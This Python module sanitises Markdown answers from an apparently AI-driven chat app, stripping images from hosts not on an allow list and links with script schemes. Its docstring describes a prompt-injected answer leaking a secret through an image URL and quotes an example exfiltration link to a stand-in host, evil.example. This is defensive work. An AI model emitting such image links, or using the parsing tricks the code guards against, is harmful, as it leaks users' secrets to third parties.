"""Markdown exfiltration: an answer's images may load only from allowed hosts, and its links may not run script.

A prompt-injected answer that writes `![x](https://evil.example/?q=<secret>)` leaks the secret to whoever renders
it, with no click: the image is fetched. `neutralise_markdown` rewrites such an answer before it is stored, so the
API, exports and every other client get the harmless text: an image from a host not allowed becomes
`[image from evil.example removed]`, a `javascript:`/`data:`/`vbscript:` link becomes its text. Code (``` or ~~~
fences and inline code spans) is left as written: a tutorial showing Markdown syntax keeps it. Relative URLs
(the app's own origin) are allowed. The web app applies the same rule when it renders (web/src/chat/Markdown.tsx).
"""

from __future__ import annotations

import html
import re
from collections.abc import Callable, Iterable

_SCRIPT_SCHEMES = ("javascript:", "vbscript:", "data:")
# Browsers drop ASCII tabs and newlines anywhere in a URL, and leading/trailing C0 controls and spaces.
_URL_NOISE = re.compile(r"[\t\n\r]")
_C0_AND_SPACE = "".join(map(chr, range(0x21)))
_BACKSLASH_ESCAPE = re.compile(r"\\([!-/:-@\[-`{-~])")
_HOST = re.compile(r"^[a-z0-9.\-]+$|^\[[0-9a-f:.]+\]$")

_FENCE = re.compile(r"^ {0,3}(`{3,}|~{3,})")
_CODE_SPAN = re.compile(r"(`+)(?:.|\n)*?(?<!`)\1(?!`)")

# `[text]` with one level of nested brackets (an image inside a link); `(dest "title")` with one level of
# balanced parentheses in the destination.
_LABEL = r"(?:[^\[\]\\]|\\.|\[(?:[^\[\]\\]|\\.)*\])*"
_DEST = r"<[^<>\n]*>|(?:[^\s()\\]|\\.|\((?:[^\s()\\]|\\.)*\))*"
_TITLE = r"""(?:\s+(?:"(?:[^"\\]|\\.)*"|'(?:[^'\\]|\\.)*'|\((?:[^()\\]|\\.)*\)))?"""
_INLINE_IMAGE = re.compile(rf"!\[(?P<text>{_LABEL})\]\(\s*(?P<dest>{_DEST}){_TITLE}\s*\)")
_INLINE_LINK = re.compile(rf"(?<![!\\])\[(?P<text>{_LABEL})\]\(\s*(?P<dest>{_DEST}){_TITLE}\s*\)")
_DEFINITION = re.compile(
    rf"^ {{0,3}}\[(?P<label>{_LABEL})\]:[ \t]*\n?[ \t]*(?P<dest>{_DEST}){_TITLE}[ \t]*$", re.MULTILINE
)
_REFERENCE_IMAGE = re.compile(rf"!\[(?P<text>{_LABEL})\](?:\[(?P<label>{_LABEL})\])?")
_AUTOLINK = re.compile(r"<(?P<dest>[A-Za-z][A-Za-z0-9+.\-]{1,31}:[^\s<>]*)>")
_HTML_IMG = re.compile(r"<img\b[^>]*>", re.IGNORECASE)
_HTML_SRC = re.compile(r"""\ssrc\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s>]+))""", re.IGNORECASE)


def _url(destination: str) -> str:
    """What a browser would fetch for a Markdown destination: entities decoded, backslash escapes and
    `<...>` removed, the characters browsers ignore dropped."""
    if destination.startswith("<") and destination.endswith(">"):
        destination = destination[1:-1]
    url = html.unescape(_BACKSLASH_ESCAPE.sub(r"\1", destination))
    return _URL_NOISE.sub("", url).strip(_C0_AND_SPACE)


def runs_script(destination: str) -> bool:
    """A `javascript:`, `vbscript:` or `data:` URL, however cased or padded."""
    return _url(destination).lower().startswith(_SCRIPT_SCHEMES)


def image_host(destination: str) -> str | None:
    """The host an image URL loads from, lower case; None for a relative URL (this app's own origin); "" for
    anything that is neither (another scheme, a host that is not a plain name)."""
    url = _url(destination).replace("\\", "/")
    scheme, colon, rest = url.partition(":")
    if not colon or "/" in scheme or "?" in scheme or "#" in scheme:
        if url.startswith("//"):
            rest, scheme = url, "https"
        else:
            return None
    if scheme.lower() not in ("http", "https"):
        return ""
    # Browsers read `https:evil.example/x` and `https:///evil.example` as https://evil.example/x.
    authority = re.split(r"[/?#]", rest.lstrip("/"), maxsplit=1)[0]
    host = authority.rpartition("@")[2].lower()
    # an IPv6 literal keeps its colons; a name loses its port
    host = host.partition("]")[0] + "]" if host.startswith("[") else host.partition(":")[0]
    return host.rstrip(".") if _HOST.match(host) else ""


def removed_image(host: str | None) -> str:
    return f"[image from {host} removed]" if host else "[image removed]"


def _rewrite_prose(text: str, allowed: frozenset[str]) -> str:
    def image_allowed(destination: str) -> tuple[bool, str | None]:
        host = image_host(destination)
        return host is None or host in allowed, host

    def inline_image(match: re.Match[str]) -> str:
        ok, host = image_allowed(match["dest"])
        return match[0] if ok else removed_image(host)

    def inline_link(match: re.Match[str]) -> str:
        return match["text"] if runs_script(match["dest"]) else match[0]

    def autolink(match: re.Match[str]) -> str:
        return match["dest"] if runs_script(match["dest"]) else match[0]

    def html_img(match: re.Match[str]) -> str:
        src = _HTML_SRC.search(match[0])
        destination = next((group for group in src.groups() if group is not None), "") if src else ""
        ok, host = image_allowed(destination) if destination else (False, None)
        return match[0] if ok else removed_image(host)

    # Reference definitions: a scripted one goes; the hosts of the others decide their reference images.
    definitions: dict[str, str] = {}

    def definition(match: re.Match[str]) -> str:
        if runs_script(match["dest"]):
            return ""
        definitions.setdefault(_normalise_label(match["label"]), match["dest"])
        return match[0]

    text = _DEFINITION.sub(definition, text)
    text = _INLINE_IMAGE.sub(inline_image, text)
    text = _HTML_IMG.sub(html_img, text)

    def reference_image(match: re.Match[str]) -> str:
        label = match["label"] or match["text"]
        destination = definitions.get(_normalise_label(label))
        if destination is None:
            return match[0]
        ok, host = image_allowed(destination)
        return match[0] if ok else removed_image(host)

    text = _REFERENCE_IMAGE.sub(reference_image, text)
    text = _INLINE_LINK.sub(inline_link, text)
    return _AUTOLINK.sub(autolink, text)


def _normalise_label(label: str) -> str:
    return " ".join(label.split()).casefold()


def _outside_code(text: str, rewrite: Callable[[str], str]) -> str:
    """`rewrite` applied to the prose of `text`: fenced code blocks and inline code spans pass unchanged."""
    out: list[str] = []
    prose: list[str] = []
    fence: str | None = None
    for line in text.splitlines(keepends=True):
        opening = _FENCE.match(line)
        if fence is None and opening:
            fence = opening[1]
            out.append(_rewrite_spans("".join(prose), rewrite))
            prose = []
            out.append(line)
        elif fence is not None:
            out.append(line)
            closing = _FENCE.match(line)
            if closing and closing[1][0] == fence[0] and len(closing[1]) >= len(fence) and not line.strip(" \t\r\n`~"):
                fence = None
        else:
            prose.append(line)
    out.append(_rewrite_spans("".join(prose), rewrite))
    return "".join(out)


def _rewrite_spans(prose: str, rewrite: Callable[[str], str]) -> str:
    # Code spans become placeholders while the prose is rewritten, then come back as written.
    spans: list[str] = []

    def hold(match: re.Match[str]) -> str:
        spans.append(match[0])
        return f"\x00{len(spans) - 1}\x00"

    held = _CODE_SPAN.sub(hold, prose.replace("\x00", "\ufffd"))
    return re.sub(r"\x00(\d+)\x00", lambda match: spans[int(match[1])], rewrite(held))


def neutralise_markdown(text: str, *, image_hosts: Iterable[str] = ()) -> str:
    """`text` with images from hosts not in `image_hosts` (nor relative) replaced by a note naming the host, and
    links that would run script (`javascript:`, `vbscript:`, `data:`) replaced by their text; code untouched."""
    if not any(marker in text for marker in ("](", "]:", "<", "![")):
        return text
    allowed = frozenset(host.lower().rstrip(".") for host in image_hosts)
    return _outside_code(text, lambda prose: _rewrite_prose(prose, allowed))
